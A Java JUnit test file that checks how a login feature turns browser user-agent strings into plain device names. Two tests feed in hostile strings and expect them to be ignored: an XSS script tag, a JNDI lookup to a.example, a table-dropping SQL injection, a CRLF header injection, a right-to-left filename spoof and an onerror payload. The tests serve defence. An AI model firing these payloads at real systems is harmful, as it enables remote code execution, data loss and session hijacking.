package org.lantern.login;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** R1 of log-ins: plain words, and only ours. */
class DeviceTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Mozilla/5.0 (Android 15; Mobile; rv:144.0) Gecko/144.0 Firefox/144.0 | Firefox on Android",
                "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0 | Firefox on Linux",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 | Chrome on Windows",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0 | Edge on Windows",
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Safari/605.1.15 | Safari on Mac",
                "Mozilla/5.0 (iPhone; CPU iPhone OS 18_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Mobile/15E148 Safari/604.1 | Safari on iPhone",
                "Mozilla/5.0 (iPad; CPU OS 18_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/142.0 Mobile/15E148 Safari/604.1 | Chrome on iPad",
                "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 | Chrome on ChromeOS",
                "Mozilla/5.0 (Linux; Android 15; SM-S931B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36 | Samsung Internet on Android",
                "Windows | A browser on Windows",
                "Firefox/1 | Firefox"
            })
    void r1_a_browser_is_called_as_its_owner_would(String userAgent, String words) {
        assertThat(Device.of(userAgent).words()).isEqualTo(words);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "curl/8.15",
                "<script>alert(1)</script>",
                "${jndi:ldap://a.example/x}",
                "'; drop table lantern.console_log_in; --",
                "\u202Egnp.exe",
                "\u0000\r\nSet-Cookie: a=b"
            })
    void r1_what_names_nothing_we_know_leaves_no_trace(String userAgent) {
        assertThat(Device.of(userAgent).words()).isEqualTo("Unknown browser");
    }

    @Test
    void r1_what_is_written_around_a_name_is_not_kept() {
        assertThat(Device.of("<img src=x onerror=alert(1)> Firefox/1 ' or '1'='1 Android")
                        .words())
                .isEqualTo("Firefox on Android");
        assertThat(Device.of("x".repeat(1_000_000) + " Firefox/144.0").words()).isEqualTo("Unknown browser");
    }
}
